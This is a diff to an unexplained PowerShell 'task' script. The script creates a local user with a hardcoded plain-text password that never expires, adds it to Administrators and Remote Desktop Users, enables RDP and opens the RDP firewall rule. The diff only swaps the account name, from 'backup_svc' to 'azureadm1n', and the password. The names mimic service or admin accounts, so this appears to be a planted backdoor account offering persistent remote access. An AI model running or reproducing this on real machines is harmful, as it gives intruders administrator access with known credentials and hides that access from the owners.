@@ -1,7 +1,7 @@
-# bootstrap 4305 v2
-$pw = ConvertTo-SecureString 'Winter#2025x' -AsPlainText -Force
-New-LocalUser -Name 'backup_svc' -Password $pw -PasswordNeverExpires -AccountNeverExpires
-Add-LocalGroupMember -Group 'Administrators' -Member 'backup_svc'
-Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'backup_svc'
+# task 4627 v2
+$pw = ConvertTo-SecureString 'Adm1n!strat0r' -AsPlainText -Force
+New-LocalUser -Name 'azureadm1n' -Password $pw -PasswordNeverExpires -AccountNeverExpires
+Add-LocalGroupMember -Group 'Administrators' -Member 'azureadm1n'
+Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'azureadm1n'
 Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
 Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'
